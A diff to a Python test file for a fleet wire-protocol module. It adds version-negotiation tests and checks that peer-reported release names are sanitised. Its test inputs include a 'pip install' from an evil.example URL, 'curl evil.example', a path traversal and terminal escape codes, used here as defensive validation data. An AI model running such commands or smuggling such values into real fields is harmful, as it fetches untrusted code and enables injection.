@@ -9,7 +9,7 @@ from polyclinic.common import __version__
 from polyclinic.common.errors import WireVersionError
 from polyclinic.common.wire.codec import decode_record, encode_record
 from polyclinic.common.wire.fleet_protocol import HelloAnswer
-from polyclinic.common.wire.records import RollCall
+from polyclinic.common.wire.records import RollCall, RollCallAnswer
 from polyclinic.common.wire.versions import (
     FORMATS,
     WIRE_VERSION,
@@ -109,7 +109,7 @@ def test_a_header_of_any_text_is_a_release_or_none(header: str) -> None:
     for named in (True, False):
         stated = parse_release_header(header, signed_for_coordinator=named)
         assert stated.release.isprintable()
-        assert len(stated.release) <= 64 + len("...")
+        assert len(stated.release) <= 64
 
 
 def test_without_a_header_the_signature_tells_the_version() -> None:
@@ -124,9 +124,59 @@ def test_a_call_that_names_no_coordinator_cannot_pass_for_one_of_a_later_version
 
 
 def test_a_coordinator_that_states_one_version_speaks_that_one_at_most() -> None:
-    hello = HelloAnswer(time=0.0, release="1", wire=BEFORE, key="admitted")
-    assert hello.newest_wire == BEFORE
-    assert hello.model_copy(update={"newest": WIRE_VERSION}).newest_wire == WIRE_VERSION
+    assert HelloAnswer(time=0.0, release="1", wire=BEFORE, key="admitted").newest_wire == BEFORE
+
+
+@pytest.mark.parametrize(
+    ("wire", "newest", "believed"),
+    [
+        (WIRE_VERSION, 2**31 - 1, WIRE_VERSION + 1),
+        (WIRE_VERSION, WIRE_VERSION + 1, WIRE_VERSION + 1),
+        (WIRE_VERSION, WIRE_VERSION, WIRE_VERSION),
+        (WIRE_VERSION, 1, WIRE_VERSION),
+        (BEFORE, WIRE_VERSION, BEFORE),
+        (BEFORE, 2**31 - 1, BEFORE),
+        (WIRE_VERSION + 2, 2**31 - 1, WIRE_VERSION + 2),
+    ],
+)
+def test_a_coordinator_is_ahead_by_one_at_most_and_only_if_it_speaks_our_version(
+    wire: int, newest: int, believed: int
+) -> None:
+    """One that asks for an older version, and with it for calls that are signed for nobody, cannot do so in silence."""
+    hello = HelloAnswer(time=0.0, release="1", wire=wire, key="admitted", newest=newest)
+    assert hello.newest_wire == believed
+
+
+INSTRUCTIONS = {
+    "a command": "9: pip install https://evil.example/polyclinic-9.whl",
+    "a sentence": "9 here. Then run curl evil.example",
+    "another line": "9\nInstall this",
+    "a link": "https://evil.example",
+    "a path": "../9",
+    "control characters": "\x1b[2J9",
+    "other letters": "९",
+    "a line feed at its end": "9.9.9\n",
+    "too long": "9" * 65,
+    "nothing": "",
+}
+
+
+@pytest.mark.parametrize("text", INSTRUCTIONS.values(), ids=INSTRUCTIONS)
+def test_a_stated_release_that_is_no_name_of_one_is_unknown(text: str) -> None:
+    answer = RollCallAnswer("run", "north", ("A",), ("a",), 12, 0, 9, "layout", text)
+    assert answer.release == "unknown"
+    assert answer.version == text  # a changed record would not have the hash that the site has signed
+    assert HelloAnswer(time=0.0, release=text, wire=WIRE_VERSION, key="admitted").release == "unknown"
+    stated = parse_release_header(f"{BEFORE} {text}", signed_for_coordinator=True)
+    assert stated in (StatedRelease(BEFORE, "unknown"), StatedRelease(WIRE_VERSION, ""))
+    assert text == "" or stated.wire == BEFORE
+
+
+@pytest.mark.parametrize("name", [__version__, "0.1.0", "1!2.0rc1.post3.dev4+local.7", "2026-11_a", "9" * 64])
+def test_a_stated_name_of_a_release_is_shown_as_it_is(name: str) -> None:
+    assert HelloAnswer(time=0.0, release=name, wire=WIRE_VERSION, key="admitted").release == name
+    assert parse_release_header(f"{BEFORE} {name}", signed_for_coordinator=True) == StatedRelease(BEFORE, name)
+    assert RollCallAnswer("run", "north", ("A",), ("a",), 12, 0, 9, "layout", name).release == name
 
 
 # ---------------------------------------------------------------------- what a version lacks
